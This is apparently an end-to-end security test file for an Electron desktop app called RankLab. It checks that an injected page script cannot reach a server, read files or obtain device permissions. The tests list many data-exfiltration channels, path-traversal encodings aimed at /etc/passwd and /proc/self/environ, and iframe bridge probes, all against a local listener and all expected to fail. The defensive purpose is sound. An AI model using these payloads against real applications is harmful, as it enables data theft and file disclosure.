/** A script injected into the page tries to reach a server, files, windows, devices and other frames. */
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../electron/desktop';

let server: Server;
let contacts = 0;
let elsewhere: string;

test.beforeAll(async () => {
  server = createServer((socket) => {
    contacts++;
    socket.end('HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *\r\ncontent-length: 5\r\n\r\ncaught');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => void server.close());
test.beforeEach(() => void (contacts = 0));

const home = 'app://ranklab/index.html';

const ways = {
  'loads or sends': /^(?!open|link$|link with|download|form|refresh|assign|replace|history)/,
  opens: /^(?:open|link$|link with ping|download|form in)/,
  'leads to': /^(?:form$|refresh|assign|replace|history)/,
};
for (const [way, chosen] of Object.entries(ways))
  test(`nothing that an injected script ${way} reaches a server, and the page stays`, async ({ desktop, window }) => {
    await expect(window.getByRole('button', { name: 'Try the sample' })).toBeVisible();
    await desktop.evaluate(({ shell }) => {
      const opened: string[] = [];
      Object.assign(globalThis, { opened });
      shell.openExternal = async (url) => void opened.push(url);
    });
    const succeeded = await window.evaluate(
      async ({ url, pattern }) => {
        const element = (name: string, attributes: Record<string, string>, text = ''): void => {
          const made = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
          made.textContent = text;
          document.body.append(made);
          if (name === 'a') made.click();
          if (name === 'form') (made as HTMLFormElement).submit();
        };
        const answered = (request: Promise<unknown>): Promise<boolean> => request.then(() => true).catch(() => false);
        const attempts: Record<string, () => unknown> = {
          fetch: () => answered(fetch(url)),
          'fetch without CORS': () => answered(fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })),
          XHR: () =>
            new Promise((done) =>
              ((x) => ((x.onload = () => done(true)), (x.onerror = () => done(false)), x.open('GET', url), x.send()))(new XMLHttpRequest()),
            ),
          WebSocket: () =>
            new Promise((done) =>
              ((w) => ((w.onopen = () => done(true)), (w.onerror = () => done(false))))(new WebSocket(url.replace('http', 'ws'))),
            ),
          EventSource: () =>
            new Promise((done) =>
              ((e) => ((e.onopen = () => done(true)), (e.onerror = () => (e.close(), done(false)))))(new EventSource(url)),
            ),
          beacon: () => void navigator.sendBeacon(url, 'secret'),
          worker: () => void new Worker(`${url}/worker.js`),
          'blob worker': () => void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)})`]))),
          'shared worker': () => void new SharedWorker(`${url}/worker.js`),
          'service worker': () => answered(navigator.serviceWorker.register(`${url}/worker.js`)),
          peer: async () => {
            const peer = new RTCPeerConnection({
              iceServers: [{ urls: `turn:${url.slice(7)}?transport=tcp`, username: 'x', credential: 'x' }],
            });
            peer.createDataChannel('x');
            await peer.setLocalDescription(await peer.createOffer());
          },
          import: () => answered(import(/* @vite-ignore */ `${url}/module.js`)),
          open: () => void open(url),
          'open in a named window': () => void open(url, 'named', 'width=100'),
          'open without opener': () => void open(url, '_blank', 'noopener,noreferrer'),
          'open and lead': () => void Object.assign(open('about:blank') ?? {}, { location: url }),
          'open in itself': () => void open(url, '_self'),
          link: () => element('a', { href: url, target: '_blank' }),
          'link with ping': () => element('a', { href: '#', ping: url }),
          download: () => element('a', { href: url, download: 'x' }),
          form: () => element('form', { action: url, method: 'post' }),
          'form in a window': () => element('form', { action: url, target: '_blank' }),
          refresh: () => element('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }),
          assign: () => location.assign(url),
          replace: () => location.replace(url),
          history: () => history.pushState(null, '', url),
        };
        for (const name of ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'track', 'input'])
          attempts[name] = () => element(name, { src: `${url}/${name}`, type: name === 'input' ? 'image' : '' });
        attempts['object'] = () => element('object', { data: url });
        attempts['svg image'] = () =>
          document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url}/svg"/><use href="${url}/use#x"/></svg>`);
        attempts['style'] = () =>
          element(
            'style',
            {},
            `@import url(${url}/css); @font-face { font-family: x; src: url(${url}/font) } body { background: url(${url}/b); font-family: x }`,
          );
        for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'icon', 'manifest', 'prerender'])
          attempts[`link ${rel}`] = () => element('link', { rel, href: `${url}/${rel}`, as: 'script' });
        const through: string[] = [];
        for (const [name, attempt] of Object.entries(attempts).filter(([each]) => new RegExp(pattern).test(each))) {
          const outcome = await Promise.race([Promise.resolve().then(attempt), new Promise((done) => setTimeout(done, 1_000))]).catch(
            () => false,
          );
          if (outcome === true) through.push(name);
        }
        return through;
      },
      { url: elsewhere, pattern: chosen.source },
    );
    expect(succeeded).toEqual([]);
    await window.waitForTimeout(1_000);
    expect(contacts).toBe(0);
    expect(await desktop.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toEqual([]);
    expect(
      await desktop.evaluate(({ BrowserWindow }) =>
        BrowserWindow.getAllWindows().map((each) => each.webContents.getURL().replace(/#.*/, '')),
      ),
    ).toEqual([home]);
    await expect(window).toHaveTitle(/RankLab/);
  });

test('an injected script reads no file under any form of address', async ({ window }) => {
  const read = await window.evaluate(async () => {
    const steps = [
      '../',
      '..%2f',
      '%2e%2e/',
      '%2e%2e%2f',
      '.%2e/',
      '..%5c',
      '..\\',
      '%252e%252e%252f',
      '..;/',
      '....//',
      '..%c0%af',
      '%u002e%u002e/',
      '..%00/',
      '/',
      '%2f',
    ];
    const addresses = [
      ...steps.flatMap((step) =>
        ['app://ranklab/', 'app://x/', 'app://', 'app://ranklab//', 'APP://RANKLAB/', 'app://ranklab@x/', 'app://ranklab:80/'].map(
          (start) => `${start}${step.repeat(9)}etc/passwd`,
        ),
      ),
      ...[
        'file:///etc/passwd',
        'file://localhost/etc/passwd',
        'view-source:file:///etc/passwd',
        'filesystem:file:///etc/passwd',
        'app://ranklab/C:/x',
        'app://ranklab/index.html%00.js',
        'app://ranklab/assets',
        'app://ranklab/.',
      ],
      ...[
        '/%2fetc%2fpasswd',
        '//etc/passwd',
        '/\\etc\\passwd',
        '/proc/self/environ',
        '/..%2f..%2fpackage.json',
        '/..%2fmain%2fmain.js',
        '/..%2fpreload%2fpreload.cjs',
      ],
    ];
    const found: string[] = [];
    for (const address of addresses) {
      const text = await fetch(address)
        .then(async (answer) => (answer.ok ? answer.text() : ''))
        .catch(() => '');
      if (/root:|ranklab-desktop|"electron"|contextBridge|PATH=/.test(text)) found.push(address);
    }
    return { tried: addresses.length, found };
  });
  expect(read.tried).toBeGreaterThan(100);
  expect(read.found).toEqual([]);
});

test('frames made by an injected script have no bridge and get no device, file or permission', async ({ window }) => {
  const bridges = await window.evaluate(async () => {
    const sources: Record<string, Partial<HTMLIFrameElement>> = {
      blank: { src: 'about:blank' },
      document: { srcdoc: '<script>document.title = String(Boolean(window.ranklab))</script>' },
      blob: { src: URL.createObjectURL(new Blob(['<p>'], { type: 'text/html' })) },
      script: { src: 'javascript:document.title = "ran"' },
      page: { src: location.href },
    };
    const with_: string[] = [];
    for (const [name, source] of Object.entries(sources)) {
      const frame = Object.assign(document.createElement('iframe'), source);
      document.body.append(frame);
      await new Promise((done) => setTimeout(done, 300));
      const inside = (() => {
        try {
          return frame.contentWindow as unknown as Record<string, unknown> | null;
        } catch {
          return null;
        }
      })();
      try {
        for (const key of ['ranklab', 'require', 'process', 'module', 'electron'])
          if (inside?.[key] !== undefined) with_.push(`${name} ${key}`);
      } catch {
        // Another origin.
      }
      frame.remove();
    }
    return with_;
  });
  expect(bridges).toEqual([]);
  const granted = await window.evaluate(async () => {
    type Asking = Record<string, (...given: unknown[]) => Promise<unknown>>;
    const of = (name: string): Asking => (navigator as unknown as Record<string, Asking>)[name] ?? {};
    const top = window as unknown as Asking;
    const asked: Record<string, () => unknown> = {
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      clipboard: () => navigator.clipboard.readText(),
      notification: async () => ((await Notification.requestPermission()) === 'granted' ? true : Promise.reject(new Error('denied'))),
      usb: () => of('usb')['requestDevice']?.({ filters: [] }) ?? Promise.reject(new Error('none')),
      hid: async () =>
        ((await of('hid')['requestDevice']?.({ filters: [] })) as unknown[] | undefined)?.length || Promise.reject(new Error('none')),
      serial: () => of('serial')['requestPort']?.() ?? Promise.reject(new Error('none')),
      bluetooth: () => of('bluetooth')['requestDevice']?.({ acceptAllDevices: true }) ?? Promise.reject(new Error('none')),
      midi: () => navigator.requestMIDIAccess({ sysex: true }),
      files: () => top['showOpenFilePicker']?.() ?? Promise.reject(new Error('none')),
      folder: () => top['showDirectoryPicker']?.() ?? Promise.reject(new Error('none')),
      fonts: async () => ((await top['queryLocalFonts']?.()) as unknown[] | undefined)?.length || Promise.reject(new Error('none')),
      location: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
    };
    const given: string[] = [];
    for (const [name, ask] of Object.entries(asked)) {
      const isGiven = await Promise.race([
        Promise.resolve()
          .then(ask)
          .then(() => true)
          .catch(() => false),
        new Promise<boolean>((done) => setTimeout(() => done(false), 1_000)),
      ]);
      if (isGiven) given.push(name);
    }
    return given;
  });
  expect(granted).toEqual([]);
});
